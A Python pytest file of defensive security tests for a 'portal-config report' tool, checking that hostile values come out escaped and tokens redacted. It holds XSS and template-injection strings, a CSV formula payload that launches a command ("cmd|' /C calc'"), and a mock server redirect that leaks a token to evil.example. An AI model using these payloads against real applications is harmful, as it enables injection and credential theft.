"""Attacks on `portal-config report`: hostile values from files and servers, and bad
output paths. Against the three-account sandbox fleet (tests/report_fleet.py) and hostile
loopback servers (tests/test_hostile_servers.py); nothing is mocked."""

from __future__ import annotations

import csv
import io
import json
import os
import signal
import subprocess
import sys
import threading
import time
from collections.abc import Callable
from pathlib import Path

import pytest
from jsonschema import Draft202012Validator

from conftest import REPO, SOFTWARE_TOKEN, TOKEN, TOKEN_ENV, Invoke
from portal_config.render.report import render_csv
from portal_config.run.report import AccountAlignment, AccountEntry, Alignment, FieldRow, PortalRow
from portal_config.sandbox import Sandbox
from report_fleet import (  # noqa: F401 (sandbox_fixture is the report_sandbox fixture)
    TOKENS,
    sandbox_fixture,
    write_fleet,
)
from test_hostile_servers import (
    WORK_TYPES,
    Hostile,
    Script,
    answer,
    dripping,
    envelope_answer,
    hostile,  # noqa: F401 (a fixture)
    project_for,
    routed,
)

SCHEMA = json.loads((REPO / "schema" / "alignment.schema.json").read_text(encoding="utf-8"))
# Markup, a closing tag, template syntax, a terminal title, a bidi override and a NUL.
SPITE = (
    '<script>alert(1)</script>"><img src=x onerror=alert(2)></td></style>'
    "{{ 7*7 }}{% if 1 %}x{% endif %}\x1b]0;pwned\x07\u202eevil\x00"
)


def _one_value_report(values: list[str]) -> Alignment:
    """One account per value, named by it, whose one portal's name is that value."""
    entries = tuple(
        AccountEntry(
            value,
            AccountAlignment(
                (
                    PortalRow(
                        value,
                        "f.yaml",
                        (),
                        (FieldRow("general.name", value, "f.yaml:3", None, "local", False),),
                    ),
                )
            ),
        )
        for value in values
    )
    return Alignment(("general.name",), entries, "2026-12-04T10:00:01+00:00", None, False, False)


# -- CSV ----------------------------------------------------------------------------------
def test_csv_cells_never_start_a_formula_after_leading_spaces() -> None:
    # A spreadsheet that trims a cell's leading blanks on import runs what follows them.
    values = [" =1+2", "   +cmd|' /C calc'!A0", "  -2", " @SUM(A1)", "  \t=x", " plain"]
    rows = list(csv.reader(io.StringIO(render_csv(_one_value_report(values)))))[1:]
    assert [row[0] for row in rows] == [
        "' =1+2",
        "'   +cmd|' /C calc'!A0",
        "'  -2",
        "' @SUM(A1)",
        "'  \t=x",
        " plain",
    ]
    assert [row[1] for row in rows] == [row[0] for row in rows]  # the portals column too


# -- --out ----------------------------------------------------------------------------------
@pytest.fixture
def files_only(project: Path) -> Path:
    """A one-account repository of the shipped portals, read from the files only."""
    for path in (REPO / "portals").iterdir():
        (project / "portals" / path.name).write_bytes(path.read_bytes())
    (project / "worktypes.yaml").write_bytes((REPO / "worktypes.yaml").read_bytes())
    (project / "portal-config.yaml").write_text(
        "targets: {test: {base_url: 'http://127.0.0.1:9/'}}\n", encoding="utf-8"
    )
    return project


def test_out_on_a_link_replaces_the_link_and_never_writes_where_it_points(
    files_only: Path, invoke: Invoke
) -> None:
    # A link planted where the page goes (a shared directory) must not aim it at a file.
    (files_only / "victim").write_text("keep", encoding="utf-8")
    (files_only / "report.html").symlink_to("victim")
    result = invoke("report", "--out", "report.html")
    assert result.exit_code == 0, result.output
    assert (files_only / "victim").read_text(encoding="utf-8") == "keep"
    assert not (files_only / "report.html").is_symlink()
    assert (files_only / "report.html").read_text(encoding="utf-8").startswith("<!DOCTYPE html>")


def test_out_to_a_fifo_hands_the_report_to_its_reader(files_only: Path, invoke: Invoke) -> None:
    # As `--out /dev/stdout` or a shell's `>(gzip > report.gz)`: the reader waits on that
    # very file, so it is written to, never replaced by another.
    fifo = files_only / "pipe"
    os.mkfifo(fifo)
    got: list[bytes] = []

    def read() -> None:
        with fifo.open("rb") as stream:
            got.append(stream.read())

    reader = threading.Thread(target=read, daemon=True)
    reader.start()
    result = invoke("report", "--format", "csv", "--out", "pipe")
    if reader.is_alive():  # nothing was written to the FIFO: end the reader's wait
        with fifo.open("wb"):
            pass
    reader.join(5)
    assert result.exit_code == 0, result.output
    assert fifo.is_fifo()
    assert got[0].decode("utf-8").startswith("account,portals,field,state,")


def test_out_to_dev_stdout_writes_standard_output_and_leaves_dev_alone(files_only: Path) -> None:
    # Standard output redirected to a file, by a process that may run as root: renaming a
    # temp file over /dev/stdout would replace the link for every process in the container.
    with (files_only / "captured.csv").open("w", encoding="utf-8") as stdout:
        done = subprocess.run(
            [sys.executable, "-m", "portal_config", "report", "-f", "csv", "--out", "/dev/stdout"],
            cwd=files_only,
            env=TOKEN_ENV,
            stdout=stdout,
            stderr=subprocess.PIPE,
            text=True,
            timeout=60,
        )
    assert done.returncode == 0, done.stderr
    assert Path("/dev/stdout").is_symlink()
    assert [name for name in os.listdir("/dev") if name.startswith(".stdout.")] == []
    text = (files_only / "captured.csv").read_text(encoding="utf-8")
    assert text.startswith("account,portals,field,state,")


# -- hostile servers ------------------------------------------------------------------------
def test_a_server_that_echoes_the_token_or_redirects_is_a_failed_row_as_text(
    project: Path,
    report_sandbox: Sandbox,
    hostile: Callable[[Script], Hostile],  # noqa: F811 (the fixture imported above)
    invoke: Invoke,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    write_fleet(project, report_sandbox.url, monkeypatch)
    assert invoke("apply", "--yes").exit_code == 0
    message = SPITE + TOKENS["beta"] + SOFTWARE_TOKEN + "L" * 100_000
    echo = hostile(
        envelope_answer({"code": 1101, "messages": [message], "response": None}, "400 Bad")
    )
    redirect = hostile(
        answer(
            b"HTTP/1.1 302 Found\r\nLocation: http://evil.example/?token="
            + TOKENS["gamma"].encode()
            + b"\r\nContent-Length: 0\r\nConnection: close\r\n\r\n"
        )
    )
    config = (project / "portal-config.yaml").read_text(encoding="utf-8")
    config = config.replace("  beta:\n", f"  beta:\n    base_url: {echo.url}\n")
    config = config.replace("  gamma:\n", f"  gamma:\n    base_url: {redirect.url}\n")
    (project / "portal-config.yaml").write_text(config, encoding="utf-8")
    outputs = {f: invoke("report", "--live", "--format", f) for f in ("json", "csv", "html")}
    for result in outputs.values():
        assert result.exit_code == 7
        for token in (*TOKENS.values(), SOFTWARE_TOKEN):
            assert token not in result.output
        assert "\x00" not in result.output and "\x1b" not in result.output
        assert "\u202e" not in result.output
        assert len(result.output) < 150_000  # the 100 KB message is cut short
    payload = json.loads(outputs["json"].stdout)
    Draft202012Validator(SCHEMA).validate(payload)
    assert [a["exit_code"] for a in payload["accounts"]] == [0, 4, 4]
    rows = list(csv.DictReader(io.StringIO(outputs["csv"].stdout)))
    assert [r["state"] for r in rows if r["account"] != "acme"] == ["failed", "failed"]
    html = outputs["html"].stdout
    assert "<script>alert" not in html and "<img" not in html and "</style>{{" not in html
    assert "&lt;script&gt;alert(1)&lt;/script&gt;&#34;&gt;&lt;img src=x" in html
    assert "{{ 7*7 }}{% if 1 %}x{% endif %}\\x1b]0;pwned\\x07\\u202eevil\\x00" in html
    assert "redirects are never followed" in html


@pytest.mark.parametrize("signum", [signal.SIGINT, signal.SIGTERM])
def test_an_interrupted_report_leaves_the_last_page_whole(
    project: Path,
    hostile: Callable[[Script], Hostile],  # noqa: F811 (the fixture imported above)
    signum: int,
) -> None:
    # OutSmart answers its headers, then a byte a second: the run is stopped mid-read. The
    # requests in flight end at the run's deadline (as in drift), then the run stops.
    server = hostile(dripping(b"HTTP/1.1 200 OK\r\nContent-Length: 999999\r\n\r\n", 1))
    project_for(project, server.url, deadline=4, timeout=30)
    (project / "report.html").write_text("last week's page", encoding="utf-8")
    before = sorted(path.name for path in project.iterdir())
    report = subprocess.Popen(
        [sys.executable, "-m", "portal_config", "report", "--live", "--out", "report.html"],
        cwd=project,
        env=TOKEN_ENV,
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
    )
    started = time.monotonic()
    while server.requests == 0 and time.monotonic() - started < 30:
        time.sleep(0.05)
    report.send_signal(signum)
    out, err = report.communicate(timeout=20)
    assert report.returncode == 130, err
    assert "Traceback" not in out + err
    assert (project / "report.html").read_text(encoding="utf-8") == "last week's page"
    assert sorted(path.name for path in project.iterdir()) == before


def serve_one_portal(
    project: Path,
    hostile: Callable[[Script], Hostile],  # noqa: F811 (the fixture imported above)
    monkeypatch: pytest.MonkeyPatch,
    name: str,
    live_only: str | None = None,
) -> None:
    """A one-account repository whose acme-facilities is named Acme, served by a loopback
    OutSmart that names it ``name`` (and, given ``live_only``, also holds that portal)."""
    (project / "portals" / "acme-facilities.yaml").write_text(
        "portal: acme-facilities\ngeneral:\n  name: Acme\nguest_workorder:\n  enabled: false\n",
        encoding="utf-8",
    )
    portals = [
        {
            "portal_id": "acme-facilities",
            "revision": 3,
            "guest_workorder": {"enabled": False},
            "general": {"name": name},
        }
    ]
    if live_only is not None:
        portals.append(
            {"portal_id": live_only, "revision": 1, "guest_workorder": {"enabled": False}}
        )
    server = hostile(
        routed(
            envelope_answer({"code": 200, "messages": [], "response": {"portals": portals}}),
            envelope_answer({"code": 200, "messages": [], "response": WORK_TYPES}),
        )
    )
    (project / "portal-config.yaml").write_text(
        f"default_target: t\ntargets:\n  t:\n    base_url: {server.url}\n    retries: 0\n",
        encoding="utf-8",
    )
    monkeypatch.setenv("OUTSMART_TOKEN", TOKEN)
    monkeypatch.setenv("OUTSMART_SOFTWARE_TOKEN", SOFTWARE_TOKEN)


LIVE_NAME = '</style><script>alert(1)</script>"><img src=x onerror=alert(2)>{{ 7*7 }} pwned'


def test_a_hostile_live_value_is_text_in_every_format(
    project: Path,
    hostile: Callable[[Script], Hostile],  # noqa: F811 (the fixture imported above)
    invoke: Invoke,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    # What OutSmart's own checks let through (100 characters, no control), all markup,
    # with a live-only portal whose id is anything at all.
    serve_one_portal(project, hostile, monkeypatch, LIVE_NAME, SPITE)
    outputs = {f: invoke("report", "--live", "--format", f) for f in ("json", "csv", "html")}
    assert [result.exit_code for result in outputs.values()] == [0, 0, 0]
    payload = json.loads(outputs["json"].stdout)
    Draft202012Validator(SCHEMA).validate(payload)
    (portal,) = payload["accounts"][0]["portals"]  # the live-only portal is not the files'
    name = next(row for row in portal["fields"] if row["field"] == "general.name")
    assert (name["state"], name["live"], portal["live_revision"]) == ("drift", LIVE_NAME, 3)
    rows = list(csv.DictReader(io.StringIO(outputs["csv"].stdout)))
    (row,) = [row for row in rows if row["field"] == "general.name"]
    assert row["live"] == json.dumps(LIVE_NAME)
    html = outputs["html"].stdout
    assert "<script>alert" not in html and "<img" not in html and "</style><" not in html
    assert (
        "<code>&#34;&lt;/style&gt;&lt;script&gt;alert(1)&lt;/script&gt;\\&#34;&gt;&lt;img src=x "
        "onerror=alert(2)&gt;{{ 7*7 }} pwned&#34;</code>"
    ) in html
    for result in outputs.values():
        assert TOKEN not in result.output and SOFTWARE_TOKEN not in result.output


def test_a_token_a_server_puts_in_a_value_never_reaches_the_page(
    project: Path,
    hostile: Callable[[Script], Hostile],  # noqa: F811 (the fixture imported above)
    invoke: Invoke,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    # The server was sent both tokens; it echoes them in a portal's name (under the 100
    # characters OutSmart allows), for the page published on GitHub Pages to show.
    serve_one_portal(project, hostile, monkeypatch, f"{TOKEN} {SOFTWARE_TOKEN}")
    outputs = {f: invoke("report", "--live", "--format", f) for f in ("json", "csv", "html")}
    invoke("report", "--live", "--out", "report.html")
    page = (project / "report.html").read_text(encoding="utf-8")
    for text in (*(result.output for result in outputs.values()), page):
        assert TOKEN not in text and SOFTWARE_TOKEN not in text
    payload = json.loads(outputs["json"].stdout)
    Draft202012Validator(SCHEMA).validate(payload)
    (portal,) = payload["accounts"][0]["portals"]
    name = next(row for row in portal["fields"] if row["field"] == "general.name")
    assert name["live"] == "*** ***"
    assert "&#34;*** ***&#34;" in page


def test_out_that_cannot_be_written_is_one_line(files_only: Path, invoke: Invoke) -> None:
    missing = invoke("report", "--out", "/dev/portal-config-report-missing")
    assert missing.exit_code == 2
    assert missing.output == (
        "error: --out /dev/portal-config-report-missing: cannot write the report"
        " (No such file or directory)\n"
    )
    assert not Path("/dev/portal-config-report-missing").exists()  # never created in /dev
    if Path("/dev/full").is_char_device():  # a device whose every write fails: disk full
        full = invoke("report", "--out", "/dev/full")
        assert full.exit_code == 2
        assert full.output == (
            "error: --out /dev/full: cannot write the report (No space left on device)\n"
        )
